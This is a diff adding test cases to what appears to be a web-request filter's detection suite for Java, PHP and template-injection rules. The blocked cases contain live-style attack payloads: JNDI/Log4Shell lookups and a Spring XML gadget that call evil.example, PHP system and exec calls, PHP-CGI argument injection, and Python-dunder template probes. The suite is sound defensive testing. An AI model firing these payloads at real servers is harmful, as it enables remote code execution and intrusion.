@@ -99,3 +99,39 @@ describe('Mail-protocol command injection after a line break (RCE-200)', () => {
     expectAllowed(get(`/mail?${query}`));
   });
 });
+
+describe('Java, PHP and template injection, round 6 (JAVA-100, JAVA-110, PHP-110, PHP-170, PHP-180, SSTI-100, SSTI-120)', () => {
+  it.each([
+    ['a JNDI LDAP URL without the lookup braces', json({ q: '$&lbracejndi:ldap://evil.example/a}' }), 'JAVA-100'],
+    [
+      'a Log4Shell lookup with its brace spelt as an entity',
+      json({ q: '$&lbrace;jndi:dns://evil.example/a}' }),
+      'JAVA-100',
+    ],
+    [
+      'the Spring XML application-context gadget',
+      get('/console?handle=ClassPathXmlApplicationContext(%27http://evil.example/x.xml%27)'),
+      'JAVA-110',
+    ],
+    ['a PHP execution function handed a bare command', get('/run?cmd=system(whoami)'), 'PHP-110'],
+    ['a PHP execution function with a line break before its parenthesis', get('/run?cmd=exec%0A(%27id%27)'), 'PHP-110'],
+    ['a PHP function with a comment before its parenthesis', get('/run?f=checkdate%2F*x*%2F()'), 'PHP-170'],
+    ['a php.ini directive as the value', get('/set?code=allow_url_include%3DOn'), 'PHP-180'],
+    ['PHP-CGI -d arguments', get('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'), 'PHP-180'],
+    ['a namespaced engine directive', post('application/x-www-form-urlencoded', 'var=opcache.jit%3D1255'), 'PHP-180'],
+    ['a Smarty closing php tag', get('/t?tpl=echo%20%22x%22%7B%2Fphp%7D'), 'SSTI-100'],
+    ['spaced Python dunders in a template expression', get('/t?name={{[].__ class __.__ base __}}'), 'SSTI-100'],
+    ['a Jinja loop over a literal list', get('/t?name={%25 for c in [1,2,3] %25}{{c}}{%25 endfor %25}'), 'SSTI-120'],
+  ])('blocks %s at sensitivity 70', (_name, req, ruleId) => {
+    expectDetected(req, ruleId);
+  });
+
+  it.each([
+    ['prose about JNDI', json({ body: 'Look the data source up through JNDI at java:comp/env/jdbc/app.' })],
+    ['prose about the file system', json({ body: 'Check the file system (ext4) before you resize it.' })],
+    ['a php.ini setting quoted in prose', json({ body: 'Raise memory_limit = 512M in php.ini if uploads fail.' })],
+    ['a Jinja loop over a variable', json({ body: '{% for item in items %}{{ item.name }}{% endfor %}' })],
+  ])('allows %s', (_name, req) => {
+    expectAllowed(req);
+  });
+});
